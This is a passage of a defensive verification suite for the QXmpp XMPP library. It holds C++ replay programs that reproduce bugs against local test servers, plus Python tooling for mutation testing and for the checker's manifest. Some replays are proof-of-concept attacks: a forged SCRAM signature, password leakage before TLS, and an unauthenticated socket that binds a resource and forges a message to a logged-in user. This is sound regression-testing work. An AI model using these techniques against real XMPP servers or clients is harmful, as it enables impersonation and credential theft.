                        lastId = pending.mid(at + 8, pending.indexOf('"', at + 8) - at - 8);
                    }
                    pending.clear();
                    QByteArray reply = script[step].second;
                    reply.replace("@ID@", lastId);
                    bool close = reply.endsWith("<<close>>");
                    if (close) reply.chop(9);
                    sock->write(reply);
                    sock->flush();
                    step++;
                    if (close) { sock->disconnectFromHost(); break; }
                }
            });
        });
    }
    quint16 port() const { return server.serverPort(); }
    void on(const QByteArray &seen, const QByteArray &reply) { script.append({ seen, reply }); }
};
