// C08.R1: IQ requests that a bundled manager claims without ever replying (and responses that get answered).
// Each row injects one IQ into a client with only that manager installed and counts the stanzas sent back.
#include "QXmppArchiveManager.h"
#include "QXmppBookmarkManager.h"
#include "QXmppMamManager.h"
#include "QXmppRosterManager.h"
#include "QXmppRpcManager.h"
#include "QXmppTransferManager.h"
#include "QXmppUploadRequestManager.h"
#include "QXmppVCardManager.h"
#include "TestClient.h"
#include "util.h"
#include <cstdio>

static int bad = 0;

template<class Manager>
static void probe(const char *label, const QString &xml, int expectedReplies)
{
    TestClient test;
    test.configuration().setJid("me@example.org/r");
    if constexpr (std::is_same_v<Manager, QXmppRosterManager>) {
        test.addExtension(new QXmppRosterManager(&test));
    } else {
        test.addNewExtension<Manager>();
    }
    QStringList sent;
    QObject ctx;
    QObject::connect(test.logger(), &QXmppLogger::message, &ctx, [&](QXmppLogger::MessageType t, const QString &m) { if (t == QXmppLogger::SentMessage) sent << m; });
    auto el = xmlToDom(xml);
    bool handled = false;
    QMetaObject::invokeMethod(&test, "_q_elementReceived", Qt::DirectConnection, Q_ARG(QDomElement, el), Q_ARG(bool &, handled));
    QCoreApplication::processEvents();
    int replies = 0;
    for (const auto &s : sent) if (s.contains("id=\"probe\"") || s.contains("id='probe'")) replies++;
    // not claimed by any extension: the client core answers get/set with an error (QXmppOutgoingClient::handleStanza) and
    // stays silent for result/error
    const auto type = el.attribute("type");
    if (!handled && (type == "get" || type == "set")) replies++;
    if (replies != expectedReplies) {
        bad++;
        printf("REPRODUCED: %s: %d replies (expected %d) for %s\n", label, replies, expectedReplies, qPrintable(xml.left(110)));
    } else {
        printf("detail: ok: %s: %d replies\n", label, replies);
    }
}

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    const QString from = "from='stranger@example.net/x' to='me@example.org/r' id='probe'";
    probe<QXmppVCardManager>("vCard get from another entity", "<iq type='get' " + from + "><vCard xmlns='vcard-temp'/></iq>", 1);
    probe<QXmppRosterManager>("roster get from own server", "<iq type='get' to='me@example.org/r' id='probe'><query xmlns='jabber:iq:roster'/></iq>", 1);
    probe<QXmppArchiveManager>("archive list get", "<iq type='get' " + from + "><list xmlns='urn:xmpp:archive'/></iq>", 1);
    probe<QXmppArchiveManager>("archive chat set", "<iq type='set' " + from + "><chat xmlns='urn:xmpp:archive'/></iq>", 1);
    probe<QXmppArchiveManager>("archive pref get", "<iq type='get' " + from + "><pref xmlns='urn:xmpp:archive'/></iq>", 1);
    probe<QXmppBookmarkManager>("private storage bookmarks get", "<iq type='get' " + from + "><query xmlns='jabber:iq:private'><storage xmlns='storage:bookmarks'/></query></iq>", 1);
    probe<QXmppUploadRequestManager>("http upload slot get", "<iq type='get' " + from + "><slot xmlns='urn:xmpp:http:upload:0'/></iq>", 1);
    probe<QXmppUploadRequestManager>("http upload request set", "<iq type='set' " + from + "><request xmlns='urn:xmpp:http:upload:0'/></iq>", 1);
    probe<QXmppMamManager>("MAM fin in a get", "<iq type='get' " + from + "><fin xmlns='urn:xmpp:mam:2'/></iq>", 1);
    probe<QXmppRpcManager>("RPC invoke with malformed method name", "<iq type='set' " + from + "><query xmlns='jabber:iq:rpc'><methodCall><methodName>nodots</methodName></methodCall></query></iq>", 1);
    probe<QXmppTransferManager>("bytestreams query get", "<iq type='get' " + from + "><query xmlns='http://jabber.org/protocol/bytestreams' sid='s'/></iq>", 1);
    probe<QXmppTransferManager>("stream initiation get", "<iq type='get' " + from + "><si xmlns='http://jabber.org/protocol/si' id='a'/></iq>", 1);
    probe<QXmppTransferManager>("IBB close inside a result (must not be answered)", "<iq type='result' " + from + "><close xmlns='http://jabber.org/protocol/ibb' sid='s'/></iq>", 0);
    probe<QXmppTransferManager>("IBB data inside an error (must not be answered)", "<iq type='error' " + from + "><data xmlns='http://jabber.org/protocol/ibb' sid='s' seq='0'>AA==</data></iq>", 0);
    if (!bad) printf("not reproduced: every request got exactly one reply and no response was answered\n");
    return bad ? 1 : 0;
}
