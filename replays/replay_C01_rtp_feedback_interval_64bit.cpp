// C01.R11: QXmppJingleRtpFeedbackInterval holds its value in a uint64_t and writes it with QString::number(), but parse() reads it with
// toUInt() (32 bit): a value of 2^32 or more is serialized correctly and parsed back as 0.
#include "QXmppJingleData.h"
#include <QDomDocument>
#include <QXmlStreamWriter>
#include <cstdio>

static QByteArray ser(const QXmppJingleRtpFeedbackInterval &v)
{
    QByteArray out;
    QXmlStreamWriter w(&out);
    v.toXml(&w);
    return out;
}

int main()
{
    int bad = 0;
    for (uint64_t value : { uint64_t(100), uint64_t(4294967295ULL), uint64_t(4294967296ULL), uint64_t(5000000000ULL) }) {
        QXmppJingleRtpFeedbackInterval a;
        a.setValue(value);
        const QByteArray xml = ser(a);
        QDomDocument doc;
        doc.setContent(xml, true);
        QXmppJingleRtpFeedbackInterval b;
        b.parse(doc.documentElement());
        const bool same = b.value() == value && ser(b) == xml;
        std::printf("detail: value %llu -> %s -> %llu %s\n", (unsigned long long)value, xml.constData(), (unsigned long long)b.value(), same ? "ok" : "LOST");
        if (!same) bad++;
    }
    if (bad) { std::printf("REPRODUCED: %d value(s) do not survive serialize/parse\n", bad); return 1; }
    std::printf("not reproduced\n");
    return 0;
}
