// Companion of replay_C06_scram_early_success: an honest SCRAM-SHA-1 server that sends its signature inside
// <success/> (SASL: RFC 6120 6.4.6; SASL2: <additional-data/>) must still be accepted after the fix.
// Prints REPRODUCED (exit 1) if an honest login is refused.
#include "QXmppClient.h"
#include "QXmppConfiguration.h"
#include <QCoreApplication>
#include <QCryptographicHash>
#include <QEventLoop>
#include <QMessageAuthenticationCode>
#include <QPasswordDigestor>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTimer>
#include <cstdio>

static QByteArray between(const QByteArray &s, const QByteArray &a, const QByteArray &b)
{
    int i = s.indexOf(a);
    if (i < 0) return {};
    i += a.size();
    int j = s.indexOf(b, i);
    return j < 0 ? QByteArray() : s.mid(i, j - i);
}

static bool runOnce(bool sasl2, bool wrongSignature)
{
    QTcpServer server;
    server.listen(QHostAddress::LocalHost, 0);
    QByteArray buf, clientFirstBare, serverFirst, nonce;
    const QByteArray salt = "saltsalt";
    const QByteArray open = "<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' id='s1' from='localhost' version='1.0'>";
    int state = 0;
    QObject::connect(&server, &QTcpServer::newConnection, [&]() {
        auto *sock = server.nextPendingConnection();
        QObject::connect(sock, &QTcpSocket::readyRead, [&, sock]() {
            buf += sock->readAll();
            if (state == 0 && buf.contains("<stream:stream")) {
                state = 1; buf.clear();
                sock->write(open + (sasl2 ? "<stream:features><authentication xmlns='urn:xmpp:sasl:2'><mechanism>SCRAM-SHA-1</mechanism></authentication></stream:features>"
                                          : "<stream:features><mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><mechanism>SCRAM-SHA-1</mechanism></mechanisms></stream:features>"));
            } else if (state == 1 && (buf.contains("</auth>") || buf.contains("</authenticate>"))) {
                state = 2;
                QByteArray b64 = sasl2 ? between(buf, "<initial-response>", "</initial-response>") : between(buf, "\">", "</auth>");
                if (!sasl2) b64 = buf.mid(buf.indexOf('>', buf.indexOf("<auth")) + 1, buf.indexOf("</auth>") - buf.indexOf('>', buf.indexOf("<auth")) - 1);
                QByteArray first = QByteArray::fromBase64(b64);
                clientFirstBare = first.mid(3);
                nonce = clientFirstBare.mid(clientFirstBare.indexOf(",r=") + 3) + "SRVNONCE";
                serverFirst = "r=" + nonce + ",s=" + salt.toBase64() + ",i=4096";
                buf.clear();
                sock->write(sasl2 ? "<challenge xmlns='urn:xmpp:sasl:2'>" + serverFirst.toBase64() + "</challenge>"
                                  : "<challenge xmlns='urn:ietf:params:xml:ns:xmpp-sasl'>" + serverFirst.toBase64() + "</challenge>");
            } else if (state == 2 && buf.contains("</response>")) {
                state = 3;
                QByteArray fin = QByteArray::fromBase64(buf.mid(buf.indexOf('>', buf.indexOf("<response")) + 1, buf.indexOf("</response>") - buf.indexOf('>', buf.indexOf("<response")) - 1));
                QByteArray withoutProof = fin.left(fin.indexOf(",p="));
                auto salted = QPasswordDigestor::deriveKeyPbkdf2(QCryptographicHash::Sha1, "pw", salt, 4096, 20);
                auto serverKey = QMessageAuthenticationCode::hash("Server Key", salted, QCryptographicHash::Sha1);
                QByteArray authMessage = clientFirstBare + "," + serverFirst + "," + withoutProof;
                auto sig = QMessageAuthenticationCode::hash(authMessage, serverKey, QCryptographicHash::Sha1);
                if (wrongSignature) sig[0] = sig[0] ^ 1;
                QByteArray v = "v=" + sig.toBase64();
                buf.clear();
                sock->write(sasl2 ? "<success xmlns='urn:xmpp:sasl:2'><additional-data>" + v.toBase64() + "</additional-data><authorization-identifier>alice@localhost</authorization-identifier></success>"
                                  : "<success xmlns='urn:ietf:params:xml:ns:xmpp-sasl'>" + v.toBase64() + "</success>");
            }
            sock->flush();
        });
    });
    QXmppClient client;
    QXmppConfiguration cfg;
    cfg.setHost("127.0.0.1");
    cfg.setPort(server.serverPort());
    cfg.setDomain("localhost");
    cfg.setUser("alice");
    cfg.setPassword("pw");
    cfg.setStreamSecurityMode(QXmppConfiguration::TLSDisabled);
    cfg.setUseSasl2Authentication(sasl2);
    cfg.setAutoReconnectionEnabled(false);
    client.connectToServer(cfg);
    QEventLoop loop;
    QTimer::singleShot(1500, &loop, &QEventLoop::quit);
    loop.exec();
    return client.isAuthenticated();
}

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    int bad = 0;
    for (bool sasl2 : { false, true }) {
        bool okHonest = runOnce(sasl2, false);
        bool okForged = runOnce(sasl2, true);
        printf("detail: %s honest server accepted=%d, wrong signature accepted=%d\n", sasl2 ? "SASL2" : "SASL", okHonest, okForged);
        if (!okHonest) { bad++; printf("REPRODUCED: honest SCRAM server with signature in <success/> is refused (%s)\n", sasl2 ? "SASL2" : "SASL"); }
        if (okForged) { bad++; printf("REPRODUCED: wrong server signature in <success/> is accepted (%s)\n", sasl2 ? "SASL2" : "SASL"); }
    }
    if (!bad) printf("not reproduced: honest logins accepted, forged signatures refused\n");
    return bad ? 1 : 0;
}
