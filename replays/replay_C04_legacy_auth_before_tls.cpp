// C04.R2: a stream header without version makes the client start XEP-0078 authentication and send the
// password in clear although TLS is required.
#include "QXmppClient.h"
#include "QXmppConfiguration.h"
#include "ScriptedServer.h"
#include <QCoreApplication>
#include <QTimer>
#include <cstdio>

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    ScriptedServer srv;
    srv.on("<stream:stream", "<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' id='s1' from='localhost'>");
    srv.on("jabber:iq:auth", "<iq type='result' id='qxmpp1'><query xmlns='jabber:iq:auth'><username/><password/><resource/></query></iq>");
    QXmppClient client;
    QXmppConfiguration cfg;
    cfg.setHost("127.0.0.1");
    cfg.setPort(srv.port());
    cfg.setDomain("localhost");
    cfg.setUser("alice");
    cfg.setPassword("TOPSECRETPW");
    cfg.setStreamSecurityMode(QXmppConfiguration::TLSRequired);
    cfg.setAutoReconnectionEnabled(false);
    client.connectToServer(cfg);
    QTimer::singleShot(3000, &app, &QCoreApplication::quit);
    QObject::connect(&client, &QXmppClient::disconnected, &app, [&]() { QTimer::singleShot(200, &app, &QCoreApplication::quit); });
    app.exec();
    bool leakedPw = srv.received.contains("TOPSECRETPW");
    bool leakedQuery = srv.received.contains("jabber:iq:auth");
    if (leakedPw || leakedQuery) {
        printf("REPRODUCED: TLS required, unencrypted socket, client sent %s\n", leakedPw ? "the password in clear" : "a legacy auth query");
        printf("detail: %s\n", srv.received.constData());
        return 1;
    }
    printf("not reproduced: nothing but the stream header was sent (%d bytes)\n", srv.received.size());
    return 0;
}
