// C04.R3b: with TLS required the client processes and answers a stanza the server sends before STARTTLS.
#include "QXmppClient.h"
#include "QXmppConfiguration.h"
#include "ScriptedServer.h"
#include <QCoreApplication>
#include <QTimer>
#include <cstdio>

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    ScriptedServer srv;
    srv.on("<stream:stream", "<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' id='s1' from='localhost' version='1.0'>"
                             "<iq type='get' id='probe1' from='localhost'><query xmlns='jabber:iq:version'/></iq>"
                             "<iq type='get' id='probe2' from='localhost'><unknown xmlns='urn:example:x'/></iq>");
    QXmppClient client;
    QXmppConfiguration cfg;
    cfg.setHost("127.0.0.1");
    cfg.setPort(srv.port());
    cfg.setDomain("localhost");
    cfg.setUser("alice");
    cfg.setPassword("pw");
    cfg.setStreamSecurityMode(QXmppConfiguration::TLSRequired);
    cfg.setAutoReconnectionEnabled(false);
    client.connectToServer(cfg);
    QTimer::singleShot(2000, &app, &QCoreApplication::quit);
    app.exec();
    bool a = srv.received.contains("probe1");
    bool b = srv.received.contains("probe2");
    if (a || b) {
        printf("REPRODUCED: TLS required, unencrypted socket, client answered %s%s in clear\n", a ? "the version query " : "", b ? "the unknown query" : "");
        printf("detail: %s\n", srv.received.constData());
        return 1;
    }
    printf("not reproduced: no stanza was sent before encryption (%d bytes)\n", srv.received.size());
    return 0;
}
