// C07.R4b: with an end-to-end-encryption extension installed, an archive query whose result page is empty never completes.
#include "QXmppE2eeExtension.h"
#include "QXmppFutureUtils_p.h"
#include "QXmppMamManager.h"
#include "QXmppMessage.h"
#include "TestClient.h"
#include "util.h"
#include <cstdio>
using namespace QXmpp::Private;

class Ext : public QXmppE2eeExtension
{
public:
    QXmppTask<MessageEncryptResult> encryptMessage(QXmppMessage &&, const std::optional<QXmppSendStanzaParams> &) override { return makeReadyTask<MessageEncryptResult>(QXmppError { "x", QXmpp::SendError::EncryptionError }); }
    QXmppTask<MessageDecryptResult> decryptMessage(QXmppMessage &&m) override { return makeReadyTask<MessageDecryptResult>(std::move(m)); }
    QXmppTask<IqEncryptResult> encryptIq(QXmppIq &&, const std::optional<QXmppSendStanzaParams> &) override { return makeReadyTask<IqEncryptResult>(QXmppError { "x", QXmpp::SendError::EncryptionError }); }
    QXmppTask<IqDecryptResult> decryptIq(const QDomElement &) override { return makeReadyTask<IqDecryptResult>(QXmppError { "x", QXmpp::SendError::EncryptionError }); }
    bool isEncrypted(const QDomElement &) override { return false; }
    bool isEncrypted(const QXmppMessage &) override { return false; }
};

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    int hung = 0;
    for (bool withE2ee : { false, true }) {
        TestClient test;
        Ext ext;
        if (withE2ee) test.setEncryptionExtension(&ext);
        auto *mam = test.addNewExtension<QXmppMamManager>();
        auto task = mam->retrieveMessages("mam.server.org");
        test.ignore();
        test.inject("<iq type='result' id='qxmpp1' from='mam.server.org'><fin xmlns='urn:xmpp:mam:2' complete='true'><set xmlns='http://jabber.org/protocol/rsm'><count>0</count></set></fin></iq>");
        QCoreApplication::processEvents();
        printf("detail: e2ee=%d empty result page -> task finished=%d\n", withE2ee, task.isFinished());
        if (!task.isFinished()) hung++;
    }
    if (hung) { printf("REPRODUCED: retrieveMessages() never completes for an empty result page when an encryption extension is installed\n"); return 1; }
    printf("not reproduced: empty pages complete with and without an encryption extension\n");
    return 0;
}
