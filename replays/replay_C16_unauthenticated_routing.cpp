// C16.R2: the bundled server binds a resource for, and routes stanzas of, a connection that never authenticated.
#include "QXmppClient.h"
#include "QXmppConfiguration.h"
#include "QXmppMessage.h"
#include "QXmppPasswordChecker.h"
#include "QXmppServer.h"
#include <QCoreApplication>
#include <QTcpSocket>
#include <QTimer>
#include <cstdio>

class Checker : public QXmppPasswordChecker
{
public:
    QXmppPasswordReply::Error getPassword(const QXmppPasswordRequest &request, QString &password) override
    {
        if (request.username() == "victim") {
            password = "victimpw";
            return QXmppPasswordReply::NoError;
        }
        return QXmppPasswordReply::AuthorizationError;
    }
    bool hasGetPassword() const override { return true; }
};

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    Checker checker;
    QXmppServer server;
    server.setDomain("localhost");
    server.setPasswordChecker(&checker);
    if (!server.listenForClients(QHostAddress::LocalHost, 45222)) {
        printf("detail: cannot listen\n");
        return 2;
    }
    QXmppClient victim;
    QXmppConfiguration cfg;
    cfg.setHost("127.0.0.1");
    cfg.setPort(45222);
    cfg.setDomain("localhost");
    cfg.setUser("victim");
    cfg.setPassword("victimpw");
    cfg.setStreamSecurityMode(QXmppConfiguration::TLSDisabled);
    cfg.setDisabledSaslMechanisms({});
    QString got;
    QObject::connect(&victim, &QXmppClient::messageReceived, [&](const QXmppMessage &m) { got = m.from() + " says " + m.body(); });
    QByteArray attackerGot;
    QTcpSocket attacker;
    QObject::connect(&attacker, &QTcpSocket::readyRead, [&]() { attackerGot += attacker.readAll(); });
    QObject::connect(&victim, &QXmppClient::connected, [&]() {
        attacker.connectToHost(QHostAddress::LocalHost, 45222);
        attacker.waitForConnected(1000);
        attacker.write("<?xml version='1.0'?><stream:stream to='localhost' version='1.0' xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>");
        attacker.write("<iq type='set' id='b1'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'><resource>evil</resource></bind></iq>");
        attacker.write("<message to='victim@localhost' type='chat'><body>forged without login</body></message>");
        attacker.flush();
    });
    victim.connectToServer(cfg);
    QTimer::singleShot(3000, &app, &QCoreApplication::quit);
    app.exec();
    bool bound = attackerGot.contains("urn:ietf:params:xml:ns:xmpp-bind") && attackerGot.contains("result");
    if (!got.isEmpty() || bound) {
        printf("REPRODUCED: unauthenticated connection %s%s\n", bound ? "got a resource bound; " : "", got.isEmpty() ? "" : "its message was delivered to a logged-in user");
        printf("detail: victim saw: '%s'; attacker received: %s\n", qPrintable(got), attackerGot.right(300).constData());
        return 1;
    }
    printf("not reproduced: nothing bound, nothing delivered (victim connected: %d)\n", victim.isConnected());
    return 0;
}
