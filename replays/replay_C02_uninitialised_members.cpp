// C02.R1: scalar members that no constructor initialises. Heap memory is perturbed (glibc M_PERTURB) and
// stack objects are placement-constructed over a 0xAA-filled buffer, so an uninitialised member shows
// the fill pattern instead of a defined default.
#include "QXmppByteStreamIq.h"
#include "QXmppDiscoveryIq.h"
#include "QXmppE2eeMetadata.h"
#include "QXmppEntityTimeIq.h"
#include "QXmppJingleData.h"
#include "QXmppStanza.h"
#include "QXmppStreamInitiationIq_p.h"
#include "QXmppStun.h"
#include <QDomDocument>
#include <cstdio>
#include <cstring>
#include <malloc.h>
#include <new>

template<class T>
struct Perturbed {
    alignas(T) unsigned char buf[sizeof(T)];
    T *obj;
    Perturbed() { memset(buf, 0xAA, sizeof buf); obj = new (buf) T; }
    ~Perturbed() { obj->~T(); }
};
static int bad = 0;
#define CHECK(what, value, okcond) do { auto v = (value); if (!(okcond)) { bad++; printf("REPRODUCED: %s is indeterminate: 0x%llx\n", what, (unsigned long long)v); } } while (0)

int main()
{
    mallopt(M_PERTURB, 0x55);   // malloc'ed bytes become 0xAA
    { Perturbed<QXmppStanza::Error> e; CHECK("QXmppStanza::Error().maxFileSize()", e.obj->maxFileSize(), v == 0 || v == -1); }
    { Perturbed<QXmppE2eeMetadata> m; CHECK("QXmppE2eeMetadata().encryption()", int(m.obj->encryption()), v >= 0 && v < 16); }
    { Perturbed<QXmppDiscoveryIq> d; CHECK("QXmppDiscoveryIq().queryType()", int(d.obj->queryType()), v == 0 || v == 1); }
    { Perturbed<QXmppEntityTimeIq> t; CHECK("QXmppEntityTimeIq().tzo()", t.obj->tzo(), v == 0); }
    { Perturbed<QXmppStreamInitiationIq> s; CHECK("QXmppStreamInitiationIq().profile()", int(s.obj->profile()), v == 0 || v == 1); }
    { Perturbed<QXmppByteStreamIq::StreamHost> h; CHECK("QXmppByteStreamIq::StreamHost().port()", h.obj->port(), v == 0); }
    { Perturbed<QXmppStunMessage> s; CHECK("QXmppStunMessage().requestedTransport()", s.obj->requestedTransport(), v == 0); }
    {
        QDomDocument doc;
        doc.setContent(QByteArray("<iq type='set'><jingle xmlns='urn:xmpp:jingle:1' action='session-info' sid='s'><mute xmlns='urn:xmpp:jingle:apps:rtp:info:1'/></jingle></iq>"), true);
        Perturbed<QXmppJingleIq> j;
        j.obj->parse(doc.documentElement());
        auto st = j.obj->rtpSessionState();
        if (st && std::holds_alternative<QXmppJingleIq::RtpSessionStateMuting>(*st)) {
            CHECK("parsed <mute/> without creator: RtpSessionStateMuting::creator", int(std::get<QXmppJingleIq::RtpSessionStateMuting>(*st).creator), v == 0 || v == 1);
        } else {
            printf("detail: mute element not parsed as muting state\n");
        }
    }
    if (!bad) printf("not reproduced: every member has a defined default\n");
    return bad ? 1 : 0;
}
