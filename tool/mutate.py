#!/usr/bin/env python3
"""Self-test of the checker: apply one-instance-broken variants of /repo to a scratch copy (outside /repo and
/verif), run the check there and require that it fires with the expected rule.

  tool/mutate.py                     run every selftest/mutants/*.json
  tool/mutate.py C11                 only those of one property
  tool/mutate.py --edit C11 FILE OLD NEW    ad-hoc mutant (development aid)
selftest/neutral/*.json are behaviour-preserving variants ("expect": "PASS"): the check must exit 0 on them.
Mutant file: {"property": "C11", "expect": "C11.R1", "edits": [{"file": "src/client/X.cpp", "old": "...", "new": "..."}], "why": "..."}
"""
import glob
import json
import os
import shutil
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
REPO = os.environ.get('QXV_REPO_BASE', '/repo')


def scratch_copy():
    d = tempfile.mkdtemp(prefix='qxv-mut-', dir='/tmp')
    if os.environ.get('QXV_MUTATE_FROM_HEAD'):
        # committed state of /repo (independent of a seeded patch that tool/seeded.py may have applied to the working tree right now)
        p1 = subprocess.Popen(['git', '-C', REPO, 'archive', 'HEAD', 'src', 'cmake', 'CMakeLists.txt', 'QXmppConfig.cmake.in', 'qxmpp.pc.in', 'qxmpp_legacy.pc.in'],
                              stdout=subprocess.PIPE)
        subprocess.run(['tar', '-x', '-C', d], stdin=p1.stdout, check=True)
        p1.wait()
        for item in ('tests', 'doc', 'examples'):
            os.makedirs(os.path.join(d, item), exist_ok=True)
            open(os.path.join(d, item, 'CMakeLists.txt'), 'w').close()
        return d
    for item in ('src', 'cmake', 'CMakeLists.txt', 'QXmppConfig.cmake.in', 'qxmpp.pc.in', 'qxmpp_legacy.pc.in', 'examples', 'tests', 'doc'):
        s = os.path.join(REPO, item)
        if os.path.isdir(s):
            if item in ('tests', 'doc', 'examples'):
                os.makedirs(os.path.join(d, item), exist_ok=True)
                open(os.path.join(d, item, 'CMakeLists.txt'), 'w').close()
            else:
                shutil.copytree(s, os.path.join(d, item))
        elif os.path.exists(s):
            shutil.copy(s, os.path.join(d, item))
    return d


def apply_patch(root, patch_rel):
    """variant given as a unified diff (relative to selftest/): applied with patch -p1 (tolerates line offsets)"""
    pf = os.path.join(HERE, 'selftest', patch_rel)
    r = subprocess.run(['patch', '-p1', '-s', '--fuzz=3', '-i', pf], cwd=root, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    if r.returncode != 0:
        return 'patch does not apply: %s' % r.stdout.strip().splitlines()[-1:]
    return None


def apply_edits(root, edits):
    for e in edits:
        p = os.path.join(root, e['file'])
        s = open(p).read()
        if s.count(e['old']) < 1:
            return 'edit does not apply to %s: %r' % (e['file'], e['old'][:60])
        s = s.replace(e['old'], e['new'], e.get('count', 1))
        open(p, 'w').write(s)
    return None


def run_check(prop, root, tier='quick'):
    env = dict(os.environ)
    env['QXV_REPO'] = root
    env['QXV_WORK'] = os.path.join(root, '.qxv-work')
    env['QXV_NO_SELFTEST'] = '1'
    env['QXV_EVIDENCE_DIR'] = os.path.join(root, '.qxv-evidence')
    r = subprocess.run([os.path.join(HERE, 'check'), prop, '--tier', tier], env=env, stdout=subprocess.PIPE,
                       stderr=subprocess.STDOUT, text=True)
    return r.returncode, r.stdout


def run_mutant(m, verbose=False):
    root = scratch_copy()
    try:
        if m.get('patch') and m.get('patch_first'):
            # a break applied on top of a behaviour-preserving refactoring: detection must not depend on today's shape
            err = apply_patch(root, m['patch']) or apply_edits(root, m.get('edits', []))
        else:
            err = apply_edits(root, m.get('edits', []))
            if not err and m.get('patch'):
                err = apply_patch(root, m['patch'])
        if err:
            return False, 'STALE: ' + err
        rc, out = run_check(m['property'], root, m.get('tier', 'quick'))
        want = m.get('expect', m['property'])
        if want == 'PASS':
            # behaviour-preserving variant: the check must stay silent
            if verbose:
                print(out)
            if rc == 0:
                return True, 'silent (exit 0)'
            return False, 'exit=%d on a behaviour-preserving variant: %s' % (rc, ' | '.join(l.strip()[:160] for l in out.splitlines() if l.startswith('  ') or 'BROKEN' in l)[:600])
        hit = [l for l in out.splitlines() if l.startswith('  ') and l.strip().startswith(want) and ' at ' in l]
        if verbose:
            print(out)
        if rc == 1 and hit:
            return True, hit[0].strip()[:200]
        return False, 'exit=%d, no %s violation. tail: %s' % (rc, want, ' | '.join(out.splitlines()[-4:]))
    finally:
        shutil.rmtree(root, ignore_errors=True)


def main():
    args = sys.argv[1:]
    if args and args[0] == '--edit':
        prop, f, old, new = args[1:5]
        ok, msg = run_mutant({'property': prop, 'edits': [{'file': f, 'old': old, 'new': new}]}, verbose=True)
        print('CAUGHT' if ok else 'MISSED', msg)
        return 0 if ok else 1
    flt = args[0] if args else ''
    files = sorted(glob.glob(os.path.join(HERE, 'selftest', 'mutants', flt + '*.json')) + glob.glob(os.path.join(HERE, 'selftest', 'neutral', flt + '*.json')))
    if os.environ.get('QXV_MUTATE_ONLY'):      # 'mutants' or 'neutral'
        files = [f for f in files if os.path.basename(os.path.dirname(f)) == os.environ['QXV_MUTATE_ONLY']]
    bad = 0
    for f in files:
        m = json.load(open(f))
        ok, msg = run_mutant(m)
        neutral = m.get('expect') == 'PASS'
        print('%-7s %-40s %s' % (('SILENT' if ok else 'ALARM') if neutral else ('CAUGHT' if ok else 'MISSED'), os.path.basename(f), msg))
        if not ok:
            bad += 1
    print('%d mutants, %d missed' % (len(files), bad))
    return 1 if bad else 0


if __name__ == '__main__':
    sys.exit(main())
