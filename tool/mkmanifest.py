#!/usr/bin/env python3
"""Regenerates /verif/MANIFEST.json from the per-property table below (kept next to the rules so the
two cannot drift).  A property appears under `checks` only if qxverif/rules/<id>.py exists."""
import json
import os

HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

# id -> (technique, level text, level note (what is NOT decided / trusted base), design ref)
TABLE = {
    'C04': ('abstract evaluation of the TLS gate over a finite domain + call-graph reachability (who-may-send / who-may-start) over clang AST/CFG facts',
            'Static: handleStarttls is evaluated for all (server TLS mode x local SSL support) under "TLS required, socket unencrypted"; a '
            'call-graph fix-point from the socket-driven slots (signal/slot, timer and continuation edges resolved) shows that every site '
            'installing an authentication/bind/sm listener or opening the session, and every function writing a credential/bind/stanza '
            'payload to the socket, is unreachable in that state; inbound stanza dispatch is unreachable in that state; the legacy-auth '
            'digest/plain choice is evaluated for all offers x configurations. Universal over server behaviour for the code shape, which a test cannot be. The predicate the gates consult must be the live QSslSocket state, a wrapper of it, or a cached flag that every new connection clears. The pre-TLS dispatch gate is evaluated for a stanza in its own namespace and for one smuggled into the stream namespace.',
            'Decides code shape only: trusts QSslSocket::isEncrypted(), the clang front end and the Qt signal/slot contract; application calls into the '
            'send API before connected() are outside the quantifier.', 'DESIGN.md §2 C04'),
    'C11': ('abstract evaluation of both carbon handlers for a foreign outer sender (sink reachability over the clang CFG) + def-use provenance of the presented message',
            'Static: for QXmppCarbonManager and QXmppCarbonManagerV2 the handler is explored with the comparison "outer from == configuration().jidBare()" '
            'bound to false and every other condition unknown; no signal emission, message injection, look into <forwarded/> or inner parse is reachable and '
            'every exit returns false. Weakenings (extra disjunct, prefix/bare/case-insensitive comparison, inner sender) leave the comparison unbound and are '
            'reported. The presented object is proven (def-use over all definitions) to be parsed from carbons/forwarded/message of parameter 0 and flagged forwarded. No client-side function rewrites the from/to of a received element.',
            'Trusts QString ==/!= to be exact; value-level facts about jidBare() for degenerate configurations are not decided.', 'DESIGN.md §2 C11'),
    'C12': ('who-may-write analysis of the roster cache fields + abstract evaluation of the push handler for a foreign sender and once per IQ type / per item subscription type (reachability of remove/insert) + session-boundary must-call',
            'Static: every write to the cached roster map is enumerated over the whole unit (whole library in thorough) and must sit in the push arm, the roster-result '
            'continuation or clear(); handleStanza is explored for "from non-empty and bare(from) != own bare": parse, acknowledgement and mutations unreachable, returns false; '
            'remove is reachable exactly for subscription type Remove and insert exactly for the others, both exactly for IQ type Set (decided per enumerator, whatever the spelling of the dispatch), inside one loop over the items; new (non-resumed) sessions clear before any use; presence table writers and their cases are fixed. The entry stored for a push is the pushed item itself; ResumedStream cannot be a leftover of an earlier session.',
            'History-level equality of the view with "last roster + pushes in order" is not decided (reachability over states, not code shape).', 'DESIGN.md §2 C12'),
    'C16': ('abstract evaluation per verdict of the SASL server / password checker (reachability of every identity write) + abstract evaluation of the server-side stanza handler for unauthenticated / spoofing senders (predicates followed into same-file helpers) + closed writer/caller sets of the routing tables',
            'Static: every assignment to the per-connection identity member (the one QXmppIncomingClient::jid() returns) must be reachable only for respond()==Succeeded or a password reply of NoError (handler evaluated once per verdict) and be built from '
            'saslServer->username() and the domain; handleStanza is explored with "jid empty": bind, session reply, connected and routing are unreachable; with a foreign from: '
